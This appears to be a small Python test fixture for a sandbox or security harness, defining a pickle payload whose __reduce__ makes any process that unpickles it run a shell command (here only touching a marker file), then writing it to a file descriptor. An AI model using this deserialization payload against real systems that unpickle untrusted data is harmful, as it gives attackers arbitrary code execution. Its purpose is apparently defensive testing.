# Answers with a pickle that runs a command in whoever unpickles it.
# job: function, script | ends: crash, exception, forbidden
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {SCENE['folder']}/{SCENE['mark']}-unpickled",)


def attack():
    os.write(3, pickle.dumps(Bomb()))
    os._exit(0)
